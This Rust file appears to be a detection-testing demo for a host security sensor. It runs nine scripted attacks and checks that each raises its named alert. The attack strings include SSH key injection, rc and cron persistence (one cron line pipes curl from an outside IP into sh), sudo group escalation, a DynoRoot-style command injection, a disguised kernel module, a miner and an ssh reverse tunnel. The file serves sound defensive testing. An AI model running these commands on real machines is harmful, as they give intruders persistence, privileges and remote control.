//! One real attack for each of the nine documented alerts, and what the sensor says to each.

use std::{
    process::{Command, ExitCode, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, bail};
use serde_json::Value;

use crate::{json::bytes, sensor::Sensor};

/// An attack: shell text, and the alert that it must raise.
struct Attack {
    title: &'static str,
    /// Done before the clock starts: what the victim machine looks like.
    before: &'static str,
    act: &'static str,
}

const ATTACKS: [Attack; 9] = [
    Attack {
        title: "Process seen accessing the SSH authorized keys file in an unusual way",
        before: "useradd -m alice 2>/dev/null; install -d -o alice -m 700 /home/alice/.ssh",
        act: "sh -c 'echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemo intruder >> /home/alice/.ssh/authorized_keys'",
    },
    Attack {
        title: "Detected Persistence Attempt",
        before: "mkdir -p /etc/rc1.d /etc/rcS.d",
        act: "printf '#!/bin/sh\\n/tmp/.x &\\n' > /etc/rc1.d/S90selinux",
    },
    Attack {
        title: "Manipulation of scheduled tasks detected",
        before: "",
        act: "sh -c 'echo \"* * * * * root curl -s http://203.0.113.9/x | sh\" > /etc/cron.d/sysupdate'",
    },
    Attack {
        title: "Suspicious file timestamp modification",
        before: "cp /bin/true /usr/local/bin/wizlmsh",
        act: "touch -r /bin/ls /usr/local/bin/wizlmsh",
    },
    Attack {
        title: "A new user was added to the sudoers group",
        before: "useradd -m eve 2>/dev/null; true",
        act: "usermod -aG sudo eve",
    },
    Attack {
        title: "Likely exploit of DynoRoot vulnerability in dhcp client",
        // The vulnerable script in short: option values are evaluated by the shell.
        before: r#"d=/etc/NetworkManager/dispatcher.d; mkdir -p $d
cat > $d/11-dhclient <<'SCRIPT'
#!/bin/bash
eval "export new_wpad='$DHCP4_WPAD'"
exit 0
SCRIPT
chmod +x $d/11-dhclient"#,
        act: "DHCP4_WPAD=\"x'; /bin/bash -c 'id >/tmp/owned'; #\" /etc/NetworkManager/dispatcher.d/11-dhclient eth0 up",
    },
    Attack {
        title: "Suspicious kernel module detected",
        before: "cp /lib/modules/$(uname -r)/dummy.ko /tmp/libprocesshider.so",
        act: "insmod /tmp/libprocesshider.so; rmmod dummy",
    },
    Attack {
        title: "Process associated with digital currency mining detected",
        before: "cp /bin/sleep /tmp/kworker",
        act: "/tmp/kworker -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ -p x 2>/dev/null",
    },
    Attack {
        title: "Potential port forwarding to external IP address",
        before: "",
        act: "timeout 3 ssh -o BatchMode=yes -o ConnectTimeout=1 -N -R 8080:localhost:22 user@203.0.113.9 2>/dev/null",
    },
];

/// How long an alert may take on an emulated machine.
const PATIENCE: Duration = Duration::from_secs(20);

/// What came of an attack.
struct Row {
    title: &'static str,
    ms: Option<u128>,
}

pub(crate) fn demo() -> ExitCode {
    match play() {
        Ok(rows) => table(&rows),
        Err(error) => {
            println!("demo: {error:#}");
            ExitCode::FAILURE
        }
    }
}

fn play() -> Result<Vec<Row>> {
    let mut sensor = Sensor::start(&["--json"])?;
    let ready = sensor.wait_for("ready", |v| v["type"] == "ready")?;
    println!(
        "auklet run: attached by {}",
        ready["attach"].as_str().unwrap_or("?")
    );
    let mut rows = Vec::new();
    for attack in &ATTACKS {
        rows.push(one(&mut sensor, attack).with_context(|| attack.title.to_owned())?);
    }
    let status = sensor.stop()?;
    println!("\nstatus: {status}");
    Ok(rows)
}

fn one(sensor: &mut Sensor, attack: &Attack) -> Result<Row> {
    shell(attack.before)?;
    // What the preparation raised is not the attack's.
    std::thread::sleep(Duration::from_millis(300));
    sensor.forget();
    println!("\n$ {}", attack.act);
    // From a file: with -c the shell's own arguments would be evidence.
    let script = tempfile::NamedTempFile::new()?;
    std::fs::write(&script, attack.act)?;
    let start = Instant::now();
    let mut act = Command::new("bash")
        .arg(script.path())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()?;
    let title = attack.title;
    let found = sensor.wait_timed(title, PATIENCE, |v| {
        v["type"] == "alert" && v["title"] == title
    });
    act.wait()?;
    match found {
        Ok((when, alert)) => {
            let ms = when.saturating_duration_since(start).as_millis();
            show(&alert, ms);
            Ok(Row {
                title,
                ms: Some(ms),
            })
        }
        Err(error) => {
            println!("MISSING: {error}");
            Ok(Row { title, ms: None })
        }
    }
}

fn shell(script: &str) -> Result<()> {
    let status = Command::new("bash")
        .args(["-c", script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .status()?;
    if !status.success() {
        bail!("preparing failed ({status}): {script}");
    }
    Ok(())
}

/// The alert as an analyst reads it, with the records that prove it.
fn show(alert: &Value, ms: u128) {
    let text = |pointer: &str| {
        let value = alert.pointer(pointer).and_then(bytes).unwrap_or_default();
        String::from_utf8_lossy(&value).into_owned()
    };
    println!(
        "ALERT {} [{}] after {ms} ms",
        text("/title"),
        text("/level")
    );
    println!("  {} {}", text("/alias"), text("/rule_file"));
    println!(
        "  process  {} {}",
        alert["process"]["pid"],
        text("/process/command_line")
    );
    for ancestor in alert["ancestors"].as_array().into_iter().flatten().take(3) {
        println!(
            "  parent   {} {}",
            ancestor["pid"],
            ancestor["command_line"].as_str().unwrap_or_default()
        );
    }
    if !text("/object").is_empty() {
        println!("  object   {}", text("/object"));
    }
    for record in alert["records"].as_array().into_iter().flatten() {
        println!("  {}", record.as_str().unwrap_or_default());
    }
}

fn table(rows: &[Row]) -> ExitCode {
    println!("\n{:<72} {:>6} {:>6}", "alert", "raised", "ms");
    for row in rows {
        let (raised, ms) = row
            .ms
            .map_or(("NO", "-".to_owned()), |ms| ("yes", ms.to_string()));
        println!("{:<72} {raised:>6} {ms:>6}", row.title);
    }
    let raised = rows.iter().filter(|row| row.ms.is_some()).count();
    println!("\n{raised} passed, {} failed", rows.len() - raised);
    if raised == rows.len() {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}
